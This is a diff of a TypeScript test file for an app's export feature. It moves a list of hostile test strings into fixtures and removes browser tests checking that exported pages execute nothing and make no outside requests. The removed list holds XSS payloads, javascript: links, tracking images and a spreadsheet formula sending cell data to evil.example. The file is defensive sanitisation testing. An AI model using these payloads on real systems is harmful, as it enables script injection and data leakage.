@@ -1,13 +1,9 @@
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { pathToFileURL } from 'node:url';
+/** What an export holds, in every form, and what never: as data, as text, and in every encoding. */
 import fc from 'fast-check';
 import { strFromU8, unzipSync } from 'fflate';
 import type { Nodes } from 'mdast';
 import { fromMarkdown } from 'mdast-util-from-markdown';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { utf8 } from '../../../src/crypto/bytes.ts';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { verify } from '../../../src/crypto/signature.ts';
 import { ready } from '../../../src/crypto/sodium.ts';
 import { asTyped } from '../../../src/desk/cases/markdown-nodes.ts';
@@ -22,8 +18,7 @@ import { visible } from '../../../src/desk/shared/visible.ts';
 import { Manifest } from '../../../src/protocol/export.ts';
 import { parseJson } from '../../../src/protocol/schema.ts';
 import { TODAY } from '../../crypto/fixtures.ts';
-import { browserWith, describeInBrowser, shot, visitor } from '../../setup/browser.ts';
-import { caseOf, choose, type House, house, passages, STORY, zip } from './fixtures.ts';
+import { caseOf, choose, HOSTILE, type House, house, passages, STORY, zip } from './fixtures.ts';
 
 let where: House;
 beforeAll(async () => {
@@ -274,20 +269,6 @@ describe('an export', () => {
   });
 });
 
-const HOSTILE = [
-  '<script>document.title="ran"</script><img src=x onerror="document.title=\'ran\'">',
-  '</div></article></main><iframe src="https://evil.example/"></iframe>',
-  '![x](https://evil.example/track.png) [click](javascript:alert(1)) [b]: data:text/html,x',
-  '~~~\n```\n# not a heading\n~~~~~~~~\n<b>x</b>',
-  '=HYPERLINK("https://evil.example/?"&A1,"x")\n+1+1\n@SUM(A1)',
-  '\u202egpj.exe\u202c \u2066x\u2069 \u001b[31mred\u0007 \u0000',
-  '<!--\n]]>\n<style>*{display:none}</style>',
-  '&lt;script&gt; &#106;avascript: java&#115;cript',
-  '<https://evil.example/> <javascript:alert(1)> https://evil.example/auto',
-  '[x](<javascript:alert(1)>) [y](\n javascript:alert(1)) [z][b]\n\n[b]: javascript:alert(2)\n[c]:\njavascript:alert(3)\n\n[c] ![c]',
-  '\\![x](https://evil.example/a.png) \\\\![x](https://evil.example/b.png) [![x](https://evil.example/c.png)](data:text/html,x)',
-];
-
 describe('hostile texts', () => {
   const hostile = () =>
     caseOf(where, {
@@ -384,76 +365,4 @@ describe('hostile texts', () => {
 it('is made in every form of a text with more runs of a sign than a call takes arguments', () => {
   const one = caseOf(where, { tips: [{ text: '~ '.repeat(200_000), contact: '' }] });
   expect(markdown(buildDocument([one], choose(), where.occasion))).toContain('~~~text');
-});
-
-describeInBrowser('the page of an export', () => {
-  const chromium = browserWith();
-  let folder: string;
-  beforeAll(() => {
-    folder = mkdtempSync(join(tmpdir(), 'flowerpot-page-'));
-  });
-  afterAll(() => rmSync(folder, { recursive: true, force: true }));
-
-  function put(name: string, text: string): string {
-    const path = join(folder, name);
-    writeFileSync(path, utf8(text));
-    return pathToFileURL(path).href;
-  }
-
-  it('runs nothing and asks nobody, whatever stands in it', async () => {
-    const one = caseOf(where, {
-      tips: HOSTILE.map((text) => ({ text, contact: text.slice(0, 400) })),
-      notes: HOSTILE,
-      tags: HOSTILE.map((text) => text.slice(0, 40)),
-    });
-    const { page, sent, complaints, context } = await visitor(await chromium());
-    const url = put('hostile.html', html(buildDocument([one], choose({ contact: true }), where.occasion)));
-    await page.goto(url);
-    await shot(page, 'export-hostile');
-    expect(await page.title()).toBe(`Export of ${TODAY}`);
-    expect(await page.locator('html').getAttribute('translate')).toBe('no');
-    expect(
-      await page.locator('script, img, iframe, a, link, form, object, embed, svg, [onerror], [style]').count(),
-    ).toBe(0);
-    expect([sent.map((request) => request.url), complaints]).toEqual([[url], []]);
-    expect(await page.getByText('<script>document.title="ran"</script>').count()).toBeGreaterThan(1);
-    // The policy holds even if markup had slipped through.
-    await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png">'));
-    expect(complaints.join('\n')).toContain('Content Security Policy');
-    await context.close();
-  });
-
-  it('reads well on a screen, a phone and paper', async () => {
-    const arabic = 'وصلت الشحنة إلى الرصيف 7 قبل الفجر. اسألوا عن السجل.\n\nThe container number is MSKU 407.';
-    const one = caseOf(where, { ...STORY, tips: [...STORY.tips, { text: arabic, contact: '' }] });
-    const choice = choose({ passages: passages(one, ['Ilse Marquardt']) });
-    const built = buildDocument(
-      [one, caseOf(where, { tips: [{ text: '会议记录在附件里。', contact: '' }] }, 2)],
-      choice,
-      where.occasion,
-    );
-    const url = put('page.html', html(built));
-    for (const colorScheme of ['light', 'dark'] as const) {
-      for (const width of [1280, 360]) {
-        const { page, context } = await visitor(await chromium(), { colorScheme, viewport: { width, height: 800 } });
-        await page.goto(url);
-        await shot(page, `export-${colorScheme}-${width}`);
-        expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBe(0);
-        expect(await page.evaluate(() => getComputedStyle(document.body).maxWidth)).not.toBe('none');
-        const rtl = page.locator('.words').nth(2);
-        expect(await rtl.evaluate((element) => getComputedStyle(element).direction)).toBe('rtl');
-        await context.close();
-      }
-    }
-    const { page, context } = await visitor(await chromium());
-    await page.goto(url);
-    const pdf = await page.pdf({ format: 'A4', preferCSSPageSize: true });
-    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
-    const { SHOTS } = process.env;
-    if (SHOTS) {
-      mkdirSync(SHOTS, { recursive: true });
-      writeFileSync(join(SHOTS, 'export.pdf'), pdf);
-    }
-    await context.close();
-  });
 });
